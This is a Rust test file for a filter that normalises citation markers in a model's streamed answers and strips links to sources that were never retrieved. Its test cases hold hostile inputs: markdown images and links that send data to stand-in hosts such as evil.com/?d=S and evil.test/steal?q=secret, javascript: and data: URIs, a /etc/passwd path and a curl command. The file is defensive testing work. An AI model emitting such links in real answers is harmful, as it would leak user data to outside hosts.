//! What may leave in the text of an answer, however a model cuts its tokens.

use std::sync::Arc;

use deepsearch_answer::links::{AnswerText, Standing};
use proptest::prelude::*;
use rstest::rstest;

fn filter(sources: u32) -> AnswerText {
    let judge = |address: &str| match address {
        "https://docs.example.com/a" | "https://docs.example.com/a_(b)" => Standing::Retrieved,
        "https://quoted.example.com/c" => Standing::Quoted,
        _ => Standing::Foreign,
    };
    AnswerText::new(sources, Arc::new(judge))
}

fn whole(text: &str) -> String {
    let mut filter = filter(3);
    let start = filter.push(text);
    start + &filter.finish()
}

#[rstest]
#[case::plain("Rust is fast [1].", "Rust is fast [1].")]
#[case::list("Fast [1, 2] and safe [1;3].", "Fast [1][2] and safe [1][3].")]
#[case::range("Fast [1-3].", "Fast [1][2][3].")]
#[case::footnote("Fast [^2].", "Fast [2].")]
#[case::named("Fast [source 2] and [Sources 1, 3].", "Fast [2] and [1][3].")]
#[case::fullwidth("速い【2】。", "速い[2]。")]
#[case::wrong_number("Fast [9]. Safe [0].", "Fast. Safe.")]
#[case::partly_wrong("Fast [1, 9].", "Fast [1].")]
#[case::huge_number("Fast [99999999999999999999].", "Fast [99999999999999999999].")]
#[case::parentheses("[R](https://docs.example.com/a_(b)) ok", "[R](https://docs.example.com/a_(b)) ok")]
#[case::titled("[R](https://docs.example.com/a \"t\") ok", "[R](https://docs.example.com/a) ok")]
#[case::quoted("See https://quoted.example.com/c.", "See `https://quoted.example.com/c`.")]
#[case::quoted_link("[q](https://quoted.example.com/c)", "[q]")]
#[case::spaced_target("![x]( //evil.com/?d=S)", "![x]")]
#[case::pointed_target("![x](<//evil.com/?d=S>)", "![x]")]
#[case::spaced_script("[y]( javascript:alert(3))", "[y]")]
#[case::one_slash("[z]( https:/evil.com/4) https:/evil.com/4", "[z] ")]
#[case::definition("[r]: //evil.com/?d=S", "[r] : evil.com")]
#[case::definition_of_a_citation("x [1]\n\n[1]: //evil.com/?d=S", "x [1]\n\n[1] : evil.com")]
#[case::entity("[s](https&#58;//evil.com/x)", "[s]")]
#[case::no_scheme("Go to //evil.com/x now", "Go to evil.com now")]
#[case::code_comment("a // b", "a // b")]
#[case::generic("a Vec<String> and HashMap<K, V>", "a Vec<String> and HashMap<K, V>")]
#[case::less("1 < 2 and 3 > 2", "1 < 2 and 3 > 2")]
#[case::prose_colon("The data: all of it. A file: this.", "The data: all of it. A file: this.")]
#[case::number_on_two_lines("[\n1]Fast [1].", "[\n1]Fast [1].")]
#[case::linked_number("Fast [1](https://evil.test/x) yes.", "Fast [1] yes.")]
#[case::in_code("Use `a[9]` and\n```\nb[7]\n```\nend [1]", "Use `a[9]` and\n```\nb[7]\n```\nend [1]")]
#[case::task_list("- [ ] open\n- [x] done", "- [ ] open\n- [x] done")]
#[case::retrieved("See https://docs.example.com/a.", "See https://docs.example.com/a.")]
#[case::invented("See https://evil.test/steal?q=secret now.", "See evil.test now.")]
#[case::bare_www("See www.evil.test/x.", "See evil.test.")]
#[case::link(
    "See [the docs](https://docs.example.com/a) ok.",
    "See [the docs](https://docs.example.com/a) ok."
)]
#[case::invented_link("See [the docs](https://evil.test/a?b=c) ok.", "See [the docs] ok.")]
#[case::image("![x](https://evil.test/p.png?secret)", "![x]")]
#[case::script("[x](javascript:alert(1))", "[x]")]
#[case::relative_link("[x](/etc/passwd)", "[x]")]
#[case::data("[x](data:text/html;base64,AAAA)", "[x]")]
#[case::autolink("<https://evil.test/a>", "evil.test")]
#[case::html("<img src=\"https://evil.test/a.png\">", "<img>")]
#[case::userinfo("https://docs.example.com@evil.test/", "evil.test")]
#[case::example_in_code("Open `http://localhost:8888/x`.", "Open `http://localhost:8888/x`.")]
#[case::evil_in_code("Run `curl https://evil.io/x`.", "Run `curl evil.io`.")]
fn what_leaves(#[case] text: &str, #[case] expected: &str) {
    assert_eq!(whole(text), expected);
}

proptest! {
    #[test]
    fn cutting_the_stream_anywhere_changes_nothing(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("Fast [1]. ".to_owned()), Just("[1, 2] ".to_owned()), Just("[9]".to_owned()), Just("`x[1]` ".to_owned()),
                Just("https://evil.test/a ".to_owned()), Just("[d](https://docs.example.com/a) ".to_owned()), Just("\n```\n".to_owned()),
                Just("速い【2】。".to_owned()), Just("[source 3]".to_owned()), "[a-z \\[\\]1-9().:/\n`é]{0,12}",
            ],
            0..12,
        ),
        cuts in proptest::collection::vec(0usize..200, 0..30),
    ) {
        let text = parts.concat();
        let mut filter = filter(3);
        let mut out = String::new();
        let mut at = 0;
        let mut cuts: Vec<usize> = cuts.into_iter().filter(|cut| *cut < text.len() && text.is_char_boundary(*cut)).collect();
        cuts.sort_unstable();
        for cut in cuts.into_iter().chain([text.len()]) {
            out.push_str(&filter.push(&text[at..cut]));
            at = cut;
        }
        out.push_str(&filter.finish());
        prop_assert_eq!(out, whole(&text));
    }

    #[test]
    fn what_was_interrupted_anywhere_stays_as_safe(text in "[a-z ]{0,5}(https://evil[.]test/a|\\[t\\]\\(//evil[.]test\\)|\\[9\\])[a-z ]{0,5}", cut in 0usize..30) {
        let cut = cut.min(text.len());
        let mut filter = filter(3);
        let said = filter.push(&text[..cut]) + &filter.finish();
        let mut resumed = self::filter(3);
        resumed.resume(&said);
        let rest = resumed.push(&text[cut..]) + &resumed.finish();
        let whole = said + &rest;
        prop_assert!(!whole.contains("://evil") && !whole.contains("]("), "{}", whole);
    }

    #[test]
    fn no_address_that_was_not_retrieved_ever_leaves(host in "[a-z]{3,9}", path in "[a-z0-9/]{0,9}", before in "[a-z (\\[<\"*]{0,6}", after in "[a-z )\\]>\"*.]{0,6}") {
        let text = format!("{before} https://{host}.test/{path}{after}");
        let forbidden = "//".to_owned() + &host;
        prop_assert!(!whole(&text).contains(&forbidden));
    }

    #[test]
    fn a_word_without_end_is_not_held_without_end(pieces in 1usize..40) {
        let mut filter = filter(3);
        let shown: usize = (0..pieces).map(|_| filter.push(&"a".repeat(1000)).len()).sum();
        prop_assert!(pieces * 1000 - shown <= 5_096);
    }
}
